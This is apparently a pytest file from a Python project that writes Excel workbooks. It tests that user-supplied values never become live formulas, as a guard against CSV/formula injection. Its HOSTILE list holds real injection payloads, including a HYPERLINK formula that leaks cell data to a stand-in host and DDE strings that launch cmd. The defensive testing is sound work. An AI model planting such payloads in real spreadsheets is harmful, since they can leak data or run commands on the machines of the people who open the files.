"""Nothing from the inputs becomes a live formula in a workbook we write (OWASP: CSV/formula injection).

Values starting with =, +, -, @, tab or CR are written as text cells: the sheet XML
holds no <f> for them, and reading back gives the text exactly as given.
"""

from __future__ import annotations

import ast
import io
import re
import zipfile
from datetime import date, datetime
from pathlib import Path

from openpyxl import load_workbook

from dossier.documents import recap_xlsx
from dossier.layout import AWARD_SHEET, INNOVATION, LKE, LKE_SHEET, QUOTE, UNIT
from dossier.model import Answer, Award, AwardYear, Innovation, Lke, Quote, Unit
from dossier.readers.register import read_register
from dossier.rules import load_edition
from dossier.scoring import score_unit
from dossier.workbooks import put, write_lke_template, write_register

from .conftest import REPO

HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"klik")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]
NAME = HOSTILE[0]
MINISTRY = HOSTILE[1]


def sheet_xml(data: bytes) -> dict[str, str]:
    """Each worksheet part of an xlsx, as text."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return {n: z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet")}


def formula_cells(xml: str) -> list[str]:
    """The references of the cells that hold a formula (<c r="..."><f>)."""
    return re.findall(r'<c r="([A-Z]+\d+)"[^>]*>(?:<v>[^<]*</v>)?<f[ >]', xml)


def hostile_units() -> list[Unit]:
    units = []
    for i, text in enumerate(HOSTILE, start=1):
        units.append(Unit(
            f"U{i}", text, text, text, text, text, "WBK", "", "", text,
            (Innovation(f"U{i}", text, "2023", text),),
        ))
    return units


def test_put_writes_text_that_looks_like_a_formula_as_text():
    from openpyxl import Workbook

    ws = Workbook().active
    for row, text in enumerate(HOSTILE, start=1):
        assert put(ws, row, 1, text).data_type == "s"
    assert put(ws, 20, 1, 12).data_type == "n"  # numbers stay numbers


def test_hostile_register_values_are_written_as_literal_text(tmp_path):
    path = tmp_path / "nominasi.xlsx"
    award = Award(2024, MINISTRY, NAME, HOSTILE[2], date(2024, 12, 12), HOSTILE[3], HOSTILE[4], HOSTILE[5], HOSTILE[6])
    write_register(path, 2024, award, hostile_units(), [Quote(t, t, t) for t in HOSTILE])
    for part, xml in sheet_xml(path.read_bytes()).items():
        assert "<f>" not in xml and "<f " not in xml, part
    wb = load_workbook(path)
    assert [wb[AWARD_SHEET].cell(r, 2).value for r in (2, 3, 4)] == [MINISTRY, NAME, HOSTILE[2]]
    units = list(wb[UNIT.sheet].iter_rows(min_row=2, values_only=True))
    assert [row[UNIT.number("name") - 1] for row in units] == HOSTILE
    assert [row[UNIT.number("category") - 1] for row in units] == HOSTILE
    assert [row[0] for row in wb[QUOTE.sheet].iter_rows(min_row=2, values_only=True)] == HOSTILE
    names = [row[INNOVATION.number("name") - 1] for row in wb[INNOVATION.sheet].iter_rows(min_row=2, values_only=True)]
    assert names == HOSTILE
    # and the register reader takes them as the names they are
    read = read_register(path, 2024)
    assert [u.name for u in read.units] == [t.strip() for t in HOSTILE]


def test_hostile_unit_name_and_ministry_stay_text_in_the_blank_lke(tmp_path):
    path = tmp_path / "lke.xlsx"
    answers = {"PPA1A": Answer("PPA1A", choice="Ya", note=HOSTILE[2])}
    write_lke_template(path, load_edition(), unit_code="U1", unit_name=NAME, year=2024, ministry=MINISTRY, answers=answers)
    xml = sheet_xml(path.read_bytes())["xl/worksheets/sheet1.xml"]
    score = LKE.letter("score")
    formulas = formula_cells(xml)
    assert formulas, "the LKE's own score formulas are there"
    assert {re.match(r"[A-Z]+", ref).group() for ref in formulas} == {score}  # and nothing else is a formula
    ws = load_workbook(path)[LKE_SHEET]
    above = {ws.cell(r, LKE.number("code")).value: ws.cell(r, LKE.number("code") + 1) for r in range(1, 8)}
    assert above["Nama Unit"].value == NAME and above["Nama Unit"].data_type == "s"
    assert above["Instansi"].value == MINISTRY and above["Instansi"].data_type == "s"
    for cell in (above["Nama Unit"], above["Instansi"]):
        assert not re.search(rf'<c r="{cell.coordinate}"[^>]*><f', xml)
    notes = [c.value for c in ws[LKE.letter("note")] if c.value == HOSTILE[2]]
    assert notes == [HOSTILE[2]]


def test_hostile_names_from_the_register_stay_text_in_the_recap_workbook():
    edition = load_edition()
    units = hostile_units()
    answers = {code: Answer(code, choice=i.option_keys[0]) for code, i in edition.indicators.items() if i.kind not in ("count", "index")}
    scores = [score_unit(u, Lke(u.code, "", answers), edition) for u in units]
    award = Award(2024, MINISTRY, NAME, "Kementerian PANRB", date(2024, 12, 12), "Jakarta", "A", "B", "Jakarta")
    year = AwardYear(2024, "2021", Path("/nonexistent/inputs/2024"), award, units, [], {})
    data = recap_xlsx.xlsx(year, scores, created=datetime(2024, 12, 12))
    for part, xml in sheet_xml(data).items():
        assert "<f>" not in xml and "<f " not in xml, part
    ws = load_workbook(io.BytesIO(data))[recap_xlsx.SHEET]
    header = next(r for r in range(1, 20) if ws.cell(r, 1).value == "Kode")
    rows = list(ws.iter_rows(min_row=header + 1, values_only=True))
    assert [row[1] for row in rows] == HOSTILE  # Nama Unit
    assert [row[2] for row in rows] == HOSTILE  # Jenis Unit
    assert MINISTRY in ws.cell(1, 1).value


# Where a cell's value may be set otherwise: cells.put itself, our own formulas (built from the edition), and the
# readers, which write no workbook (the official form's reader sets `.value` on its own lines).
VALUE_WRITERS = ("dossier/cells.py", "dossier/lke_formulas.py", "dossier/readers/")


def cell_writes(source: str) -> list[int]:
    """The lines of `source` that set a cell's value other than through cells.put: `ws.cell(row, column, value)`,
    `ws.cell(..., value=...)`, `x.value = ...` and `ws["A1"] = ...`."""

    found = []
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr == "cell" and (
                len(node.args) == 3 or any(k.arg == "value" for k in node.keywords)):
            found.append(node.lineno)
        elif isinstance(node, (ast.Assign, ast.AugAssign)):
            targets = node.targets if isinstance(node, ast.Assign) else [node.target]
            for target in targets:
                if isinstance(target, ast.Attribute) and target.attr == "value" or isinstance(target, ast.Subscript) \
                        and isinstance(target.slice, ast.Constant) and re.fullmatch(r"[A-Z]{1,3}[0-9]+", str(target.slice.value)):
                    found.append(node.lineno)
    return sorted(found)


def test_every_cell_value_dossier_writes_goes_through_put():
    """Regression, in the mechanism: `init --year` carried an office's own column forward with ws.cell(r, c, value)
    and the web's attach wrote a Bukti Dukung cell with `.value =`: text typed as '=HYPERLINK(...)' came back a
    live formula. Every value is written by cells.put, which keeps text text, whoever writes it next."""
    package = REPO / "dossier"
    offending = {}
    for path in sorted(package.rglob("*.py")):
        rel = path.relative_to(REPO).as_posix()
        if not rel.startswith(VALUE_WRITERS) and (lines := cell_writes(path.read_text(encoding="utf-8"))):
            offending[rel] = lines
    assert offending == {}


def test_the_check_finds_each_way_of_writing_a_cell():
    source = ('ws.cell(1, 2, v)\nws.cell(row=1, column=2, value=v)\nc.value = v\nws["A1"] = v\nc.value += v\n'
              'ws.cell(1, 2).font = f\nx = ws.cell(1, 2).value\nd["k"] = v\nself.cell(tr, table, el, span)\n')
    assert cell_writes(source) == [1, 2, 3, 4, 5]
